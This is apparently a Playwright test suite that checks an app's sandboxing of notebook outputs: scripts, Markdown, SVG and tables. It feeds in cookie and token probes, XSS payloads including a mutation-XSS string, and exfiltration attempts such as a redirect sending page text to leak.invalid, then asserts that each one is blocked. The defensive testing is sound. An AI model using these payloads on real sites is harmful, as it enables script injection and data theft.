"""Hostile and ordinary outputs in a real browser: what runs is kept apart, what is drawn is harmless."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Page, expect

from tests.e2e.conftest import screenshot
from tests.e2e.output_page import build, html, serving, snapshot


class OutputPage(NamedTuple):
    page: Page
    requests: list[str]

    def show(self, *outputs: dict[str, Any]) -> None:
        self.page.evaluate("message => window.feed(JSON.parse(message))", snapshot(*outputs))

    def show_markdown(self, source: str) -> None:
        self.page.evaluate("source => window.showMarkdown(source)", source)

    @property
    def frame(self) -> FrameLocator:
        return self.page.frame_locator(".out-frame iframe").first


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    folder = tmp_path_factory.mktemp("outputs")
    build(folder)
    with serving(folder) as address:
        yield address


@pytest.fixture
def outputs(served: tuple[str, list[str]], context: BrowserContext) -> Iterator[OutputPage]:
    url, requests = served
    requests.clear()
    page = context.new_page()
    page.goto(url)
    page.evaluate("localStorage.setItem('token', 'secret')")
    yield OutputPage(page, requests)
    page.close()


PROBES = {
    "the app's page": "parent.document.title",
    "the app's address": "String(parent.location.href)",
    "the top page": "top.document.cookie",
    "cookies": "document.cookie",
    "local storage": "localStorage.getItem('token')",
    "session storage": "sessionStorage.length",
    "databases": "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; })",
    "the hub by fetch": "await (await fetch('/index.html')).text()",
    "the hub by XMLHttpRequest": "await new Promise((ok, no) => { const x = new XMLHttpRequest(); "
    "x.onload = ok; x.onerror = no; x.open('GET', '/index.html'); x.send(); })",
    "another frame of the page": "parent.frames[1].document.body.innerText",
    "a worker of the hub": "new Worker('/assets/worker.js') && await new Promise((ok, no) => setTimeout(no, 300))",
    "a service worker": "await navigator.serviceWorker.register('/frame/frame.js')",
}


@pytest.mark.parametrize("what", PROBES)
def test_an_output_cannot_reach(outputs: OutputPage, what: str) -> None:
    outputs.show(
        html(
            "<p id=result>…</p><script>(async () => { let found; "
            f"try {{ found = 'reached: ' + ({PROBES[what]}); }} catch (error) {{ found = 'refused'; }}"
            "document.getElementById('result').textContent = found; })()</script>"
        ),
        html("<p>secret of another output</p><script></script>"),
    )
    expect(outputs.frame.locator("#result")).to_have_text("refused")


def test_an_output_can_send_nothing_out(outputs: OutputPage, tmp_path: Path) -> None:
    """Neither to the hub nor to anybody else, who is another server here."""
    with serving(tmp_path) as (outside, outside_requests):
        attempts = "".join(
            f"<img src='{base}/leak-image'><link rel=stylesheet href='{base}/leak-style'>"
            f"<iframe src='{base}/leak-frame'></iframe><script src='{base}/leak.js'></script>"
            f"<link rel=prefetch href='{base}/leak-prefetch'><link rel=preconnect href='{base}'>"
            f"<video src='{base}/leak-video'></video><object data='{base}/leak-object'></object>"
            "<style>@import url('"
            + base
            + "/leak-import'); p { background: url('"
            + base
            + "/leak-background') }</style>"
            f"<script>{{ const base = '{base}'; navigator.sendBeacon(base + '/leak-beacon', 'x');"
            "try { new WebSocket(base.replace('http', 'ws') + '/leak-socket') } catch (error) {}"
            "try { new EventSource(base + '/leak-events') } catch (error) {}"
            "const form = document.createElement('form'); form.action = base + '/leak-form';"
            "document.body.append(form); form.submit(); import(base + '/leak-module').catch(() => 0);"
            "window.open(base + '/leak-window') }</script>"
            for base in (outputs.page.url.rstrip("/"), outside)
        )
        outputs.show(html(f"{attempts}<p id=end>end</p>"))
        expect(outputs.frame.locator("#end")).to_have_text("end")
        outputs.page.wait_for_timeout(500)  # what leaves would leave now
        assert outside_requests == []
    assert [path for path in outputs.requests if "leak" in path] == []
    expect(outputs.page.locator(".out-notice")).to_contain_text("no network")


def test_an_output_cannot_send_its_frame_or_the_page_elsewhere(outputs: OutputPage) -> None:
    url = outputs.page.url
    outputs.show(
        html(
            "<script>try { top.location = 'https://leak.invalid/' } catch (error) {}"
            "try { parent.location = '/leak-page' } catch (error) {}"
            "location.href = 'https://leak.invalid/?' + document.body.innerText</script>"
        )
    )
    outputs.page.wait_for_function("document.querySelector('.out-frame iframe') !== null")
    outputs.page.wait_for_timeout(500)
    assert outputs.page.url == url
    assert [frame.url for frame in outputs.page.frames if "leak.invalid" in frame.url] == []
    assert [path for path in outputs.requests if "leak" in path] == []


def test_scripts_run_in_order_and_draw_with_their_height(outputs: OutputPage) -> None:
    outputs.show(
        html("<div id=box></div><script>var step = [1]</script><script>step.push(2); box.textContent = step; "
             "box.style.height = '333px'</script>"),
        html("element.textContent = 'drawn'; element.style.height = '120px'", "application/javascript"),
    )  # fmt: skip
    expect(outputs.frame.locator("#box")).to_have_text("1,2")
    frames = outputs.page.locator(".out-frame iframe")
    expect(frames.nth(0)).to_have_css("height", "333px")
    expect(frames.nth(1)).to_have_css("height", "120px")


def test_a_frame_that_comes_back_has_its_height_at_once(outputs: OutputPage) -> None:
    outputs.show(html("<div style='height: 400px'></div><script></script>"))
    expect(outputs.page.locator(".out-frame iframe")).to_have_css("height", "400px")
    outputs.page.get_by_role("button", name="Fold the outputs away").click()
    expect(outputs.page.locator(".out-frame")).to_have_count(0)
    outputs.page.evaluate(
        """() => { window.seen = []; new MutationObserver(() => {
            const frame = document.querySelector('.out-frame iframe');
            if (frame) window.seen.push(frame.getBoundingClientRect().height);
        }).observe(document.body, {subtree: true, childList: true, attributes: true}); }"""
    )
    outputs.page.get_by_role("button", name="Show the outputs").click()
    expect(outputs.page.locator(".out-frame iframe")).to_have_css("height", "400px")
    assert set(outputs.page.evaluate("window.seen")) == {400}


def test_a_page_that_always_grows_is_stopped(outputs: OutputPage) -> None:
    outputs.show(
        html(
            "<div id=d></div><script>let h = 100; setInterval(() => { d.style.height = (h += 500) + 'px' }, 5)</script>"
        )
    )
    outputs.page.wait_for_timeout(700)
    height = outputs.page.locator(".out-frame iframe").evaluate(
        "frame => frame.getBoundingClientRect().height"
    )
    assert height <= 1200


def test_only_a_click_opens_a_link_and_the_new_page_knows_nothing(outputs: OutputPage) -> None:
    links = html(
        "<a id=good href='https://example.invalid/page'>good</a> <a id=bad href='javascript:top.hacked=1'>bad</a>"
        "<script>window.open('https://unasked.invalid/'); document.getElementById('good').click()</script>"
    )
    # By its address: what a test evaluates counts as the act of a person.
    outputs.page.goto(f"{outputs.page.url}#{quote(snapshot(links))}")
    outputs.page.reload()
    expect(outputs.frame.locator("#good")).to_be_visible()
    outputs.page.wait_for_timeout(300)
    assert len(outputs.page.context.pages) == 1
    outputs.page.locator("#elsewhere").click()
    outputs.frame.locator("#good").evaluate("link => link.click()")
    outputs.page.wait_for_timeout(300)
    assert len(outputs.page.context.pages) == 1
    outputs.frame.locator("#bad").click()
    with outputs.page.context.expect_page() as opened:
        outputs.frame.locator("#good").click()
    assert opened.value.evaluate("window.opener") is None
    assert len(outputs.page.context.pages) == 2
    opened.value.close()


def test_errors_of_an_output_are_told(outputs: OutputPage) -> None:
    outputs.show(html("<script>throw new Error('broken plot')</script>"))
    expect(outputs.page.locator(".out-notice")).to_contain_text("broken plot")


def test_the_frame_follows_the_theme(outputs: OutputPage) -> None:
    outputs.show(html("<p id=text>text</p><script></script>"))
    expect(outputs.frame.locator("#text")).to_be_visible()
    outputs.page.evaluate("document.documentElement.dataset.theme = 'dark'")
    expect(outputs.frame.locator("html")).to_have_attribute("data-theme", "dark")
    expect(outputs.frame.locator("#text")).to_have_css("color", "rgb(227, 230, 236)")


DATA_FRAME = (
    "<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n\n"
    "    .dataframe tbody tr th {\n        vertical-align: top;\n    }\n\n    .dataframe thead th {\n        "
    'text-align: right;\n    }\n</style>\n<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: '
    'right;">\n      <th></th>\n      <th>a</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n      '
    "<td>1.5</td>\n    </tr>\n  </tbody>\n</table>\n<p>1 rows × 1 columns</p>\n</div>"
)


def test_a_data_frame_is_drawn_by_the_app(outputs: OutputPage) -> None:
    outputs.show(html(DATA_FRAME))
    expect(outputs.page.locator(".out-table td")).to_have_text("1.5")
    expect(outputs.page.locator(".out-table th").nth(1)).to_have_css("text-align", "right")
    expect(outputs.page.locator("iframe")).to_have_count(0)


@pytest.mark.parametrize(
    "text",
    [
        "<table><tr><td onclick='parent.hacked = 1'>x</td></tr></table>",
        "<table><tr><td><img src=x onerror='window.hacked = 1'></td></tr></table>",
        "<table><tr><td><script>window.hacked = 1</script></td></tr></table>",
        "<table><tr><td><a href='javascript:window.hacked = 1'>x</a></td></tr></table>",
        "<style>body { display: none }</style><table><tr><td>x</td></tr></table>",
        "<style>.dataframe{} @import 'x'; body{}</style><table><tr><td>x</td></tr></table>",
        "<table><tr><td style='position: fixed; inset: 0'>x</td></tr></table>",
        "<table id='app'><tr><td>x</td></tr></table>",
        "<svg><table><tr><td>x</td></tr></table></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=window.hacked=1&gt;'>",
    ],
)
def test_a_table_with_anything_else_in_it_goes_into_the_frame(outputs: OutputPage, text: str) -> None:
    outputs.show(html(text))
    expect(outputs.page.locator(".out-frame iframe")).to_have_count(1)
    expect(outputs.page.locator(".out-table")).to_have_count(0)
    assert outputs.page.evaluate("'hacked' in window") is False


HOSTILE_MARKDOWN = r"""
# Title here

<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 1">
<svg onload="window.hacked = 1"><circle r=1 /></svg>
<iframe src="javascript:parent.hacked = 1"></iframe>
<form action="/leak"><input name=a><button>go</button></form>
<style>body { display: none }</style>
<p style="position: fixed; inset: 0" id="app" onclick="window.hacked = 1">text</p>

[click](javascript:window.hacked=1) [data](data:text/html,<script>parent.hacked=1</script>) [web](https://example.invalid)
![dot](attachment:dot.png) ![gone](attachment:gone.png)

$\href{javascript:window.hacked=1}{x}$ $\htmlStyle{position: fixed}{y}$ and $$\int_0^1 x^2 dx$$
costs $5 or $10 and `$code$`

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">
"""


def test_markdown_is_drawn_without_anything_that_runs(outputs: OutputPage) -> None:
    outputs.show_markdown(HOSTILE_MARKDOWN)
    markdown = outputs.page.locator(".out-markdown")
    expect(markdown.locator("h1")).to_have_attribute("id", "Title-here")
    expect(markdown.locator(".katex-display, .out-math-block .katex").first).to_be_visible()
    for selector in (
        "script",
        "iframe",
        "form",
        "style",
        "[onclick]",
        "[onerror]",
        "[onload]",
        "p[style]",
        "#app",
    ):
        expect(markdown.locator(selector)).to_have_count(0)
    addresses = markdown.locator("a").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
    assert [address for address in addresses if address and not address.startswith("https:")] == []
    expect(markdown.get_by_role("link", name="web")).to_have_attribute("rel", "noopener noreferrer")
    assert markdown.locator("img[alt=dot]").get_attribute("src") == "data:image/png;base64,iVBORw0KGgo="
    expect(markdown.locator("code").last).to_have_text("$code$")
    expect(markdown).to_contain_text("costs $5 or $10 and")
    assert outputs.page.evaluate("'hacked' in window") is False


def test_svg_is_a_picture_in_which_nothing_runs(outputs: OutputPage) -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.hacked=1">'
        "<script>parent.hacked=1</script></svg>"
    )
    outputs.show(html(svg, "image/svg+xml"))
    outputs.page.wait_for_function("document.querySelector('img')?.naturalWidth === 20")
    assert outputs.page.evaluate("'hacked' in window") is False


def test_twenty_thousand_lines_leave_the_page_usable(outputs: OutputPage) -> None:
    """20,000 lines in 400 messages; meanwhile somebody types elsewhere."""
    outputs.show()
    page = outputs.page
    page.evaluate(
        """() => { window.times = []; let seq = 1; let line = 0; window.isDone = false;
            const input = document.getElementById('elsewhere');
            input.addEventListener('input', () => { const t = performance.now(); requestAnimationFrame(() => setTimeout(
                () => window.times.push(performance.now() - t))); });
            const step = () => { let text = '';
                for (let k = 0; k < 50; k += 1) text += `\\x1b[3${line % 8}mline\\x1b[0m ${line++}\\n`;
                window.feed({type: 'ops', ops: [{op: 'stream', seq: ++seq, at: 0, cell_id: 'a', run_id: 'r', index: 0,
                    name: 'stdout', text}]});
                if (line < 20000) setTimeout(step, 5); else window.isDone = true; };
            step(); }"""
    )
    page.locator("#elsewhere").focus()
    while not page.evaluate("window.isDone"):
        page.keyboard.press("x")
    page.wait_for_function("document.querySelector('.out-text').textContent.endsWith('line 19999\\n')")
    times = sorted(page.evaluate("window.times"))
    assert len(times) >= 5
    # Machines differ; a page that hangs is far beyond this.
    assert times[len(times) // 2] < 150
    box = page.locator(".out-box")
    assert box.evaluate("box => Math.abs(box.scrollTop + box.clientHeight - box.scrollHeight)") <= 2
    box.evaluate("box => { box.scrollTop = 0; }")
    expect(page.locator(".out-block").first).to_be_in_viewport()
    # Only what is near is laid out: that is what keeps the page quick.
    skipped = page.locator(".out-block").evaluate_all(
        "blocks => blocks.filter((block) => "
        "!block.firstElementChild.checkVisibility({contentVisibilityAuto: true})).length"
    )
    assert skipped >= 10


def test_outputs_of_every_kind_as_a_picture(outputs: OutputPage) -> None:
    outputs.show(
        {"output_type": "stream", "name": "stdout", "text": "plain \x1b[1;31mred\x1b[0m \x1b[42;30mon green\x1b[0m\n"},
        {"output_type": "stream", "name": "stderr", "text": "a warning\n"},
        {"output_type": "stream", "name": "stdout", "text": "head\n", "tail": "tail\n", "omitted": 9_000_000,
         "chunks": [{"sha256": "0" * 64, "size_bytes": 9_000_011}]},
        html(DATA_FRAME),
        {"output_type": "display_data", "data": {"application/json": {"a": [1, {"b": None}]}}, "metadata": {}},
        html("A *formula*: $e^{i\\pi} = -1$", "text/markdown"),
        html("<h3>HTML in its frame</h3><script></script>"),
        {"output_type": "error", "ename": "ValueError", "evalue": "no",
         "traceback": ["\x1b[31m---------\x1b[39m", "\x1b[31mValueError\x1b[39m: no"]},
        {"output_type": "notice", "code": "too_many_outputs", "text": "This run made more than 1,000 outputs."},
    )  # fmt: skip
    expect(outputs.frame.locator("h3")).to_be_visible()
    for theme in ("light", "dark"):
        outputs.page.evaluate("theme => { document.documentElement.dataset.theme = theme; }", theme)
        expect(outputs.frame.locator("html")).to_have_attribute("data-theme", theme)
        screenshot(outputs.page, f"outputs-{theme}")
